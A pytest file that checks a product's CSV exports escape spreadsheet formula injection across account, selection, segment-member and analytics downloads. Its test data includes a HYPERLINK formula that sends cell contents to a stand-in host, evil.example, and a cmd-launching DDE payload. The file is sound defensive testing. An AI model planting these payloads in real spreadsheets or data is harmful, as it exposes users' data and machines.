"""Every CSV the product writes escapes the cells a spreadsheet would run as formulas
(leading =, +, -, @, tab or carriage return): the accounts export and the export of a
selection, a segment's members, the analytics downloads (segment names in the header
too). The analytics accounts download is tested in segments/tests/test_analytics_accounts.py,
the rejected rows of an import with the imports (customers/tests/test_imports_api.py). And
no module writes CSV but through cs_platform.spreadsheet."""

import csv
import io
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from cs_platform.spreadsheet import FORMULA_STARTS, formula_safe, safe_row
from customers.tests.api_client import api_client
from customers.tests.factories import AccountFactory
from playbooks.tests.factories import MembershipFactory, SegmentFactory
from segments.models import SegmentSnapshot

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
# One cell per dangerous start.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def streamed(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def test_formula_safe_quotes_exactly_the_dangerous_starts():
    assert [formula_safe(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert {v[0] for v in FORMULAS} == set(FORMULA_STARTS)
    # Harmless text, numbers (negative ones too) and dates stay as they are
    assert formula_safe("ACME = best") == "ACME = best"
    assert formula_safe(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_row([None, -3, date(2026, 1, 2), "x"]) == ["", -3, date(2026, 1, 2), "x"]


def test_the_accounts_export_escapes_names_and_segment_names(client, csm):
    # Given accounts named like formulas, in a segment named like one
    segment = SegmentFactory(name="@evil segment")
    for n, name in enumerate(FORMULAS):
        MembershipFactory(segment=segment, account=AccountFactory(name=name, external_id=f"f{n}"))
    client.force_login(csm)
    # When the accounts list is exported
    rows = read_csv(streamed(client.get(reverse("account-export"))))
    # Then every such cell is quoted
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULAS}
    assert {row[header.index("segments")] for row in rows[1:]} == {"'@evil segment"}


def test_the_selection_export_escapes_names_and_segment_names(client, csm):
    # Given accounts named like formulas, in a segment named like one, all selected
    segment = SegmentFactory(name="=evil segment")
    accounts = [AccountFactory(name=name, external_id=f"s{n}") for n, name in enumerate(FORMULAS)]
    for account in accounts:
        MembershipFactory(segment=segment, account=account)
    client.force_login(csm)
    # When the selection is exported from the accounts list's bulk actions
    response = client.post(
        reverse("accounts-bulk"), {"action": "export", "ids": [a.pk for a in accounts]}
    )
    rows = read_csv(streamed(response))
    # Then every such cell is quoted
    header = rows[0]
    assert {row[header.index("name")] for row in rows[1:]} == {"'" + name for name in FORMULAS}
    assert {row[header.index("segments")] for row in rows[1:]} == {"'=evil segment"}


def test_the_members_export_escapes_every_cell(csm):
    segment = SegmentFactory(name="Members")
    for n, name in enumerate(FORMULAS):
        account = AccountFactory(name=name, external_id=FORMULAS[-1 - n] + str(n))
        MembershipFactory(segment=segment, account=account)
    response = api_client(csm).get(f"/api/segments/{segment.pk}/members/?format=csv")
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode(), newline="")))
    assert {row["name"] for row in rows} == {"'" + name for name in FORMULAS}
    assert all(row["external_id"].startswith("'") for row in rows)


def test_the_analytics_downloads_escape_segment_names(client, csm, today):
    # Given segments named like formulas, each with a snapshot of today
    segments = [SegmentFactory(name=name, slug=f"f-{n}") for n, name in enumerate(FORMULAS)]
    at = timezone.make_aware(datetime.combine(today, time(1)))
    for segment in segments:
        SegmentSnapshot.objects.create(segment=segment, computed_at=at, member_count=1, arr=0)
    client.force_login(csm)
    escaped = {"'" + name for name in FORMULAS}
    chosen = {"segments": [s.pk for s in segments]}

    def download(kind: str) -> list[list[str]]:
        response = client.get(reverse("analytics-csv", args=[kind]), chosen)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        return read_csv(response.content)

    compare = download("compare")
    assert {row[1] for row in compare[1:]} == escaped
    growth = download("growth")
    assert {row[1] for row in growth[1:]} == escaped
    overlap = download("overlap")
    assert set(overlap[0][1:]) == escaped  # the header names the segments
    assert {row[0] for row in overlap[1:]} >= escaped
    assert download("cohorts")[0][0] == "cohort"


def test_no_module_writes_csv_but_through_the_one_helper():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("cs_platform", "rules", "customers", "usage", "segments", "playbooks")
        + ("workspace", "demo")
        for path in (ROOT / app).rglob("*.py")
        if "tests" not in path.parts and "csv.writer(" in path.read_text()
    ]
    assert writers == ["cs_platform/spreadsheet.py"]
